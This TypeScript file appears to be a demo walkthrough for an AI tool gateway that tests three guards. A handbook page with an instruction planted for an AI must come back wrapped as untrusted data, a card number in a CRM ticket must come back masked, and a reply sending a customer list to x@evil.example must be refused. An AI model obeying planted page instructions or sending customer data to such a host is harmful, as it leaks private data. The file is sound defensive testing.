/**
 * The walkthrough steps for the guards: the handbook page with a planted instruction arrives
 * wrapped as untrusted data, the card number and private address a customer pasted into a ticket
 * come back masked, and a reply addressed outside the help center's allowed domains is refused
 * before anything is sent. Each step checks the actual result.
 */
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { USER_ASSERTION_HEADER } from '../identity/user-assertion.js';
import { DEMO_CARD, DEMO_PRIVATE_EMAIL } from './demo-crm.js';
import { call, connect, indent, rowOf, textOf, userAssertion, type StepReporter } from './demo-steps.js';
import type { SystemsTarget } from './demo-walkthrough-systems.js';

const PLANTED_PAGE = 'vendors/faq.html';

/** Run the guard steps. Connections are closed before returning. */
export async function runGuardSteps(target: SystemsTarget, r: StepReporter): Promise<void> {
  const client = await connect(target.url, target.key, { [USER_ASSERTION_HEADER]: await userAssertion(target.userSigningKey) });
  try {
    r.step(`Read ${PLANTED_PAGE}, a vendor page with an instruction hidden for an AI`);
    const page = await call(client, 'handbook_read', { path: PLANTED_PAGE });
    const text = textOf(page);
    r.show(`${text.split('\n').slice(0, 5).join('\n')}\n      …`);
    const meta = (page._meta ?? {}) as Record<string, unknown>;
    r.expect(!page.isError && text.startsWith('[Gatehouse notice]') && /<<<untrusted-data [0-9a-f]{12}>>>/.test(text) && meta['gatehouse/untrusted'] === true,
      `Delivered whole but wrapped as untrusted data, with a notice the model can read; _meta lists ${String(meta['gatehouse/findings'] ?? '')}`,
      'the planted page should come back wrapped as untrusted data');

    r.step('Open ticket 3 in the CRM: the customer pasted a card number and a private address into it');
    const ticket = await call(client, 'crm_get', { table: 'tickets', key: 3 });
    const description = String(rowOf(ticket)?.description ?? '');
    r.show(indent(`description: ${description}`));
    const everything = JSON.stringify(ticket);
    r.expect(!ticket.isError && description.includes('**** **** **** 1111') && description.includes(`${DEMO_PRIVATE_EMAIL[0]}***@`)
      && !everything.includes(DEMO_CARD) && !everything.includes(DEMO_PRIVATE_EMAIL),
    'The card number and the e-mail address are masked by the crm connector\'s guards (the row in the CRM is unchanged)',
    'the card number and the e-mail address should be masked');

    r.step('Send the customer list in a reply to x@evil.example (helpcenter_send_reply)');
    const refused = await call(client, 'helpcenter_send_reply', { body: { to: 'x@evil.example', message: 'Customer list attached.' } });
    r.show(textOf(refused));
    r.expect(refused.isError === true && textOf(refused).startsWith('DESTINATION_NOT_ALLOWED'),
      'Refused before anything is sent: replies may go to acme.example addresses only (guards.destinations)',
      'a reply to an unapproved domain must be refused with DESTINATION_NOT_ALLOWED');

    r.step('Send a reply to billing@acme.example');
    const sent: CallToolResult = await call(client, 'helpcenter_send_reply', { body: { to: 'billing@acme.example', message: 'Refund issued for ticket 3.' } });
    r.show(textOf(sent));
    r.expect(!sent.isError, 'Allowed: the address is on the allow-list', 'a reply to an allowed domain should be sent');
  } finally {
    await client.close();
  }
}
